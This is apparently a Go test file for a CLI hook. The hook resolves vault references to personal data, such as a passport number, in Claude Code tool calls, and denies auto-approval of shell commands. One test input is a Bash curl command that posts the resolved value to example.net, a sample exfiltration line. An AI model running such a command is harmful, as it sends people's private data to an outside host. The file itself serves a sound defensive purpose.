package cli

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/phc-project/phc/internal/clientvault"
)

// hookRun runs phc hook ARGS in-process with stdin, for the harness's data
// dir.
func (h *harness) hookRun(stdin string, args ...string) (int, string, string) {
	h.t.Helper()
	env, out, errb := testEnv(h.t, map[string]string{"PHC_PASSWORD": testPassword, "PHC_HOME": h.dir})
	env.Stdin = strings.NewReader(stdin)
	code := Run(context.Background(), env, append([]string{"hook"}, args...))
	return code, out.String(), errb.String()
}

// TestHookResolvePlain: given a JSON document that is not a Claude Code
// event, phc hook resolve writes it back with the references replaced, or
// exits 2 naming the key and the status, resolving nothing in part.
func TestHookResolvePlain(t *testing.T) {
	t.Parallel()
	f := newCVFixture(t)
	h := f.h
	app, ref := f.passportReader()
	server := h.base + "/mcp"
	code, out, errs := h.hookRun("", "header", "--server", server, "--profile", "p")
	if code != 0 {
		t.Fatalf("phc hook header = %d %s", code, errs)
	}
	origin, _ := clientvault.Origin(server)
	k, _, err := clientvault.LoadKey(h.dir, origin, "p")
	if err != nil || strings.TrimSpace(out) != "Client-Vault: "+clientvault.Header(k) {
		t.Fatalf("phc hook header = %q (%v)", out, err)
	}
	f.bind(app, k)

	tests := []struct {
		name     string
		in       string
		wantCode int
		wantOut  string
		wantErr  []string
	}{
		{"no references: the call as it is", `{"command": "ls -l"}`, 0, `{"command": "ls -l"}`, nil},
		{"a reference replaced", `{"command": "echo '` + ref + `' > form.txt", "n": [1, "` + ref + `"]}`, 0,
			`{"command":"echo 'X1234589' > form.txt","n":[1,"X1234589"]}` + "\n", nil},
		{"one unknown reference denies the whole call", `{"a": "` + ref + `", "b": "⟦PASSPORT_2:X1•••89⟧"}`, 2, "",
			[]string{"PASSPORT_2", "unknown_ref"}},
		{"not JSON", `echo hi`, 2, "", []string{"not JSON"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errs := h.hookRun(tt.in, "resolve", "--server", server, "--profile", "p")
			if code != tt.wantCode || out != tt.wantOut {
				t.Fatalf("phc hook resolve = %d %q %q; want %d %q", code, out, errs, tt.wantCode, tt.wantOut)
			}
			for _, w := range tt.wantErr {
				if !strings.Contains(errs, w) {
					t.Errorf("stderr %q does not name %q", errs, w)
				}
			}
			if strings.Contains(errs, passport) || strings.Contains(errs, clientvault.Bearer(k)) {
				t.Errorf("stderr %q holds the value or K", errs)
			}
		})
	}

	// A Claude Code PreToolUse event: the call comes back resolved, for the
	// person to approve; --approve allows a file's write, never a shell
	// command (one a prompt injected could send the value anywhere).
	decisions := []struct{ tool, flag, want string }{
		{"Write", "", "ask"}, {"Bash", "", "ask"}, {"Write", "--approve", "allow"}, {"Edit", "--approve", "allow"}, {"Bash", "--approve", "ask"},
	}
	for _, d := range decisions {
		event := `{"hook_event_name": "PreToolUse", "tool_name": "` + d.tool + `", "tool_input": {"command": "curl -d '` + ref + `' example.net"}}`
		args := []string{"resolve", "--server", server, "--profile", "p"}
		if d.flag != "" {
			args = append(args, d.flag)
		}
		code, out, errs := h.hookRun(event, args...)
		var answer struct {
			Out struct {
				Decision string         `json:"permissionDecision"`
				Input    map[string]any `json:"updatedInput"`
			} `json:"hookSpecificOutput"`
		}
		err := json.Unmarshal([]byte(out), &answer)
		if got := answer.Out; code != 0 || err != nil || got.Decision != d.want || got.Input["command"] != "curl -d 'X1234589' example.net" {
			t.Errorf("%s %s: phc hook resolve = %d %q %q; want %s with the value in the command", d.tool, d.flag, code, out, errs, d.want)
		}
	}
}

// TestHookSeenMakesExpired: phc hook seen records when the model got a
// reference (an MCP tool's answer); once the key is minted again for a new
// value, a tool call holding the old reference is denied as expired.
func TestHookSeenMakesExpired(t *testing.T) {
	t.Parallel()
	f := newCVFixture(t)
	h := f.h
	h.must(200, "PUT", "/phc/v1/settings", h.owner, map[string]any{"local_vaults": true}, nil)
	app := f.approvedToken("app", "identity.passport_number", "travel")
	server := h.base + "/mcp"
	h.hookRun("", "header", "--server", server, "--profile", "p")
	origin, _ := clientvault.Origin(server)
	k, _, _ := clientvault.LoadKey(h.dir, origin, "p")
	f.bind(app, k)

	old := f.readPassport(app)
	event := `{"hook_event_name": "PostToolUse", "tool_name": "mcp__phc__context_get", "tool_response": {"value": "` + old + `"}}`
	if code, out, errs := h.hookRun(event, "seen", "--server", server, "--profile", "p"); code != 0 || out != "" {
		t.Fatalf("phc hook seen = %d %q %q", code, out, errs)
	}
	f.advance(time.Minute)
	h.must(200, "PUT", "/context/fields/identity.passport_number", h.owner, map[string]any{"value": "Y9876543"}, nil)
	if now := f.readPassport(app); now != "⟦PASSPORT_1:Y9•••43⟧" {
		t.Fatalf("read after the correction = %q", now)
	}
	code, out, errs := h.hookRun(`{"content": "`+old+`"}`, "resolve", "--server", server, "--profile", "p")
	if code != 2 || out != "" || !strings.Contains(errs, "PASSPORT_1") || !strings.Contains(errs, "expired") {
		t.Fatalf("phc hook resolve of the old reference = %d %q %q; want exit 2 naming PASSPORT_1 expired", code, out, errs)
	}
}

// TestHookInstallClaudeCode: the PreToolUse entry for Write, Edit and Bash
// is added once, what else the settings hold is kept, and the change is
// printed; a file that is not a JSON object is left alone.
func TestHookInstallClaudeCode(t *testing.T) {
	t.Parallel()
	h := &harness{t: t, dir: filepath.Join(t.TempDir(), "phc")}
	settings := filepath.Join(t.TempDir(), ".claude", "settings.json")
	if err := os.MkdirAll(filepath.Dir(settings), 0o700); err != nil {
		t.Fatal(err)
	}
	before := `{"model": "opus", "hooks": {"PostToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}]}}`
	if err := os.WriteFile(settings, []byte(before), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errs := h.hookRun("", "install", "claude-code", "--settings", settings, "--profile", "travel")
	if code != 0 || !strings.Contains(out, "added to "+settings) || !strings.Contains(out, "Write|Edit|Bash") {
		t.Fatalf("phc hook install = %d %q %q", code, out, errs)
	}
	var doc struct {
		Model string `json:"model"`
		Hooks map[string][]struct {
			Matcher string `json:"matcher"`
			Hooks   []struct {
				Type    string `json:"type"`
				Command string `json:"command"`
			} `json:"hooks"`
		} `json:"hooks"`
	}
	raw, _ := os.ReadFile(settings)
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	pre := doc.Hooks["PreToolUse"]
	post := doc.Hooks["PostToolUse"]
	if len(post) != 2 || post[1].Matcher != "mcp__.*" || !strings.Contains(post[1].Hooks[0].Command, " hook seen --data ") {
		t.Fatalf("settings after install = %s; want the PostToolUse seen entry for MCP tools", raw)
	}
	if doc.Model != "opus" || post[0].Matcher != "Bash" || len(pre) != 1 || pre[0].Matcher != "Write|Edit|Bash" ||
		pre[0].Hooks[0].Type != "command" || !strings.Contains(pre[0].Hooks[0].Command, " hook resolve --data ") ||
		!strings.Contains(pre[0].Hooks[0].Command, "--profile travel") {
		t.Fatalf("settings after install = %s", raw)
	}
	if fi, _ := os.Stat(settings); fi.Mode().Perm() != 0o644 {
		t.Errorf("settings mode = %v; want it kept (0644)", fi.Mode().Perm())
	}
	code, out, _ = h.hookRun("", "install", "claude-code", "--settings", settings, "--profile", "travel")
	if again, _ := os.ReadFile(settings); code != 0 || !strings.Contains(out, "nothing changed") || string(again) != string(raw) {
		t.Fatalf("second install = %d %q; want nothing changed", code, out)
	}
	bad := filepath.Join(t.TempDir(), "settings.json")
	os.WriteFile(bad, []byte(`[1, 2]`), 0o600)
	if code, _, errs := h.hookRun("", "install", "claude-code", "--settings", bad); code == 0 || !strings.Contains(errs, "not changed") {
		t.Fatalf("install into a non-object = %d %q", code, errs)
	}
	if got, _ := os.ReadFile(bad); string(got) != `[1, 2]` {
		t.Fatalf("the file was changed: %s", got)
	}
}
